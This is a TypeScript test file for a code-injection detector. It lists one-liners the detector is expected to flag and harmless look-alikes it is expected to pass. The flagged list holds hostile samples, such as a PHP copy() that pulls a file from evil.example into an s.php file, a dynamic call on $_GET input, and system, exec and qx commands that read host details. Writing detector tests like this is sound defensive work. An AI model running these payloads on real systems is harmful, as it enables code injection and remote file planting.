import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectCode } from './detect-code.ts';

const FOUND: readonly string[] = [
  'print(7*7)',
  'echo(9*9);',
  'print("a"*5)',
  "print('x'.upper())",
  'System.out.println(7*7)',
  '1;var_dump(1);',
  'var_export("x")',
  'return 7*7;',
  'echo 5*5;',
  'print STDOUT 3+4;',
  '(function(){return 6*6})()',
  '(()=>7*7)()',
  'for(;;){}',
  `copy("http://evil.example/s.txt","s.php")`,
  `error_log('x',3,'/tmp/x.php')`,
  `header('Location: http://evil.example')`,
  `$a=$_GET['x'];$a();`,
  'system "whoami"',
  `exec 'cat /etc/hosts'`,
  'print qx/id/;',
  `ENV['HOME']`,
  'import time;time.sleep(5)',
  'platform.uname()',
  'java.lang.System.getProperties()',
  `[System.IO.File]::ReadAllText('c:\\boot.ini')`,
  'Process.Start("calc.exe")',
];

const PASSED: readonly string[] = [
  'print(x)',
  'print 4*6',
  'print 4*6 photos',
  'how does print(7*7) work',
  'puts',
  'return to sender',
  'return 7 items',
  'var_dump',
  'var_dump()',
  'var_dump($user) shows null',
  'exit(0)',
  'for(;;)',
  'copy (1)',
  'rename(old, new)',
  'mail(to, subject)',
  'header(name)',
  'system "alpha"',
  `exec 'master plan'`,
  'ENV',
  'env[production]',
  'import time',
  'import time; a question',
  'process.cwd',
  'res.send is not a function',
  'System.out.println("hi") prints nothing',
  'Process.Start in C#',
  'a.__class__ in Python',
];

describe('one-liners', () => {
  for (const value of FOUND) {
    test(`finds ${value}`, () => assert.notEqual(detectCode(value), null));
  }
  for (const value of PASSED) {
    test(`passes ${value}`, () => assert.equal(detectCode(value), null));
  }
});
